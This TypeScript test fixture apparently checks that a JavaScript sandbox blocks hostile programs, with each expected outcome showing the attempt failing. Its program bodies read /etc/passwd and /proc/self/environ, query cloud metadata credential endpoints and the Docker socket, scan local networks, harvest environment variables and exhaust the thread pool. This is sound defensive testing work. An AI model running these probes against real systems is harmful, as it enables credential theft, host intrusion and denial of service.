import { everyDoor } from '../doors.ts'
import type { HostileFamily } from '../hostileProgram.ts'

const nothing = { outcome: 'completed', text: '[]' } as const
const knock = (...names: string[]) =>
  `${everyDoor}; const open = []; for (const name of ${JSON.stringify(names)}) open.push(...(await everyDoor(name)).map((door) => name + ' ' + door)); return Response.json(open)`
const fetchAll = (...urls: string[]) =>
  `const open = []; const urls = ${JSON.stringify(urls)}
   for (const url of urls) {
     try { await fetch(url); open.push('fetch ' + url) } catch {}
     try { await import(url); open.push('import ' + url) } catch {}
     for (const name of ['WebSocket', 'EventSource', 'XMLHttpRequest', 'Worker', 'SharedWorker', 'RTCPeerConnection', 'WebTransport', 'importScripts'])
       try { if (globalThis[name]) { new globalThis[name](url.replace('http', 'ws')); open.push(name) } } catch { open.push(name) }
     try { navigator.sendBeacon(url, 'x'); open.push('beacon') } catch {}
   }
   return Response.json(open)`

export const files: HostileFamily = {
  family: 'files, `/proc` and `/sys`',
  programs: [
    { name: 'reads /etc/passwd', body: knock('fs', 'fs/promises'), ...nothing },
    {
      name: 'reads /etc/passwd without asking',
      body: `return new Response(require('fs').readFileSync('/etc/passwd'))`,
      outcome: 'threw',
    },
    {
      name: 'reads /proc, /sys and /dev by address',
      body: fetchAll(
        ...['/proc/self/environ', '/proc/1/cmdline', '/proc/self/fd/0', '/proc/self/mem', '/sys/kernel/uevent_helper'],
        ...['file:///proc/self/environ', 'file:///proc/1/root/etc/passwd', 'file:///sys/class/net', 'file:///dev/mem'],
      ),
      ...nothing,
    },
    {
      name: 'lets the runtime read a file for it',
      body: `const open = []; const attempt = (name, work) => { try { const got = work(); if (got !== undefined) open.push(name) } catch {} }
        attempt('env file', () => process.loadEnvFile('/proc/self/environ') ?? 'read'); attempt('report', () => process.report.getReport()); attempt('report file', () => process.report.writeReport('/tmp/x'))
        attempt('source map', () => require('module').findSourceMap('/etc/passwd')); attempt('heap', () => require('v8').writeHeapSnapshot('/tmp/x')); attempt('openAsBlob', () => require('fs').openAsBlob('/etc/passwd'))
        attempt('stat', () => process.binding('fs')); attempt('engine', () => require('crypto').setEngine('/tmp/x.so')); attempt('features', () => process.getActiveResourcesInfo().length > 20 ? 'many' : undefined)
        attempt('trace', () => require('trace_events').createTracing({ categories: ['node'] }).enable()); attempt('cwd', () => process.chdir('/proc'))
        return Response.json(open)`,
      ...nothing,
    },
    {
      name: 'makes symlinks, pipes and device nodes',
      body: `${knock('fs')}`.replace(
        'return Response.json(open)',
        `for (const make of ['symlinkSync', 'linkSync', 'mkfifoSync', 'mknodSync', 'openSync', 'mkdtempSync']) try { process.getBuiltinModule('fs')[make]('/proc/1/root', '/tmp/x'); open.push(make) } catch {}; return Response.json(open)`,
      ),
      ...nothing,
    },
    {
      name: 'looks for descriptors to write to',
      body: `const found = []; try { for (const stream of [process.stdin, process.stdout, process.stderr]) if (stream._handle || stream.constructor.name === 'Socket') found.push(stream.fd) } catch {}
        try { if (process._getActiveHandles) found.push('handles') } catch {}; try { if (process._getActiveRequests) found.push('requests') } catch {}; try { if (process.stdout.fd > 2) found.push('fd') } catch {}
        ${everyDoor}; return Response.json([...found, ...(await everyDoor('fs')), ...(await everyDoor('tty'))])`,
      ...nothing,
    },
    {
      name: 'looks for secrets',
      realm: 'node',
      body: `return Response.json([process.env, process.argv, process.execArgv, process.cwd(), process.pid])`,
      outcome: 'completed',
      text: '[{},["node","function"],[],"/",1]',
    },
    {
      name: 'looks for what tells this machine from another',
      body: `const found = []; const is = (name, value) => { if (value) found.push(name) }
        if (typeof process === 'object') { is('memory', process.memoryUsage().rss); is('available', process.availableMemory()); is('cpu', process.cpuUsage); is('resources', process.resourceUsage); is('parent', process.ppid); is('uid', process.getuid); is('uptime', process.uptime() > 1); is('hrtime', process.hrtime()[0]) }
        is('cores', globalThis.navigator?.hardwareConcurrency); is('clock', performance.now()); is('zone', Intl.DateTimeFormat().resolvedOptions().timeZone !== 'UTC'); is('date', Date.now() !== 1700000000000)
        const before = performance.now(); for (let n = 0; n < 1e6; n += 1); is('moves', performance.now() !== before); return Response.json(found)`,
      ...nothing,
    },
  ],
}

export const sockets: HostileFamily = {
  family: 'sockets and metadata addresses',
  programs: [
    {
      name: 'opens a socket with Node’s modules',
      body: knock('net', 'dgram', 'tls', 'http', 'https', 'http2', 'dns'),
      ...nothing,
    },
    {
      name: 'asks metadata services of clouds',
      body: fetchAll(
        ...['http://169.254.169.254/latest/meta-data/', 'http://metadata.google.internal/computeMetadata/v1/'],
        ...[
          'http://[fd00:ec2::254]/latest/',
          'http://100.100.100.200/',
          'http://169.254.170.2/v2/credentials',
          'http://0251.0376.0251.0376/',
        ],
      ),
      ...nothing,
    },
    {
      name: 'asks its own machine and its neighbours',
      body: fetchAll(
        ...[
          'http://127.0.0.1:2375/containers/json',
          'http://localhost:8545',
          'http://[::1]/',
          'http://0.0.0.0/',
          'http://172.17.0.1/',
        ],
        ...[
          'http://10.0.0.1/',
          'http://192.168.0.1/',
          'http://host.docker.internal/',
          'http://function/',
          'unix:///var/run/docker.sock',
        ],
      ),
      ...nothing,
    },
    {
      name: 'sends names to a resolver and bytes to the world',
      body: fetchAll(
        'http://example.com/',
        'https://1.1.1.1/dns-query',
        'ws://example.com/',
        'ftp://example.com/',
        'blob:http://example.com/x',
      ),
      ...nothing,
    },
    {
      name: 'uses the client that is behind fetch',
      body: `const open = []; const own = Object.getOwnPropertySymbols(globalThis).map((symbol) => globalThis[symbol]).filter((one) => typeof one?.request === 'function' || typeof one?.dispatch === 'function')
        for (const client of own) { try { await client.request({ origin: 'http://169.254.169.254', path: '/', method: 'GET' }); open.push('request') } catch {} ; try { await client.connect({ origin: 'http://127.0.0.1:2375', path: '/' }); open.push('connect') } catch {} }
        const native = Function.prototype.toString.call(fetch); try { await Reflect.construct(Request, ['http://127.0.0.1:1']).clone().text(); await fetch(new Request('http://127.0.0.1:1')); open.push('fetch of a request') } catch {}
        return Response.json(open)`,
      ...nothing,
    },
  ],
}

export const processes: HostileFamily = {
  family: 'processes and threads',
  programs: [
    { name: 'forks', body: knock('child_process', 'cluster'), ...nothing },
    { name: 'starts threads', body: knock('worker_threads'), ...nothing },
    {
      name: 'starts threads as a web page does',
      body: `const open = []; const source = 'data:text/javascript,for(;;);'; for (const name of ['Worker', 'SharedWorker', 'ServiceWorker', 'Worklet']) try { new globalThis[name](source); open.push(name) } catch {}
        try { new globalThis.Worker(URL.createObjectURL(new Blob(['for(;;);']))); open.push('blob') } catch {}; try { new ShadowRealm(); open.push('ShadowRealm') } catch {}; return Response.json(open)`,
      ...nothing,
    },
    {
      name: 'fills the thread pool of its process and waits',
      realm: 'node',
      body: `const { pbkdf2 } = require('crypto'); for (let n = 0; n < 64; n += 1) pbkdf2('x', 'y', 2 ** 31 - 1, 64, 'sha512', () => {}); await new Promise(() => {})`,
      outcome: 'timed-out',
      timeoutMs: 700,
    },
    {
      name: 'fills the thread pool of its process and answers',
      realm: 'node',
      body: `const { pbkdf2 } = require('crypto'); for (let n = 0; n < 64; n += 1) pbkdf2('x', 'y', 2 ** 31 - 1, 64, 'sha512', () => {}); return new Response('done')`,
      outcome: 'completed',
      text: 'done',
    },
    {
      name: 'compiles on every core at once',
      body: `const bytes = new Uint8Array([0,97,115,109,1,0,0,0]); for (let n = 0; n < 20000; n += 1) WebAssembly.compile(bytes).catch(() => {}); return new Response('done')`,
      outcome: 'completed',
      text: 'done',
      timeoutMs: 10_000,
    },
  ],
}
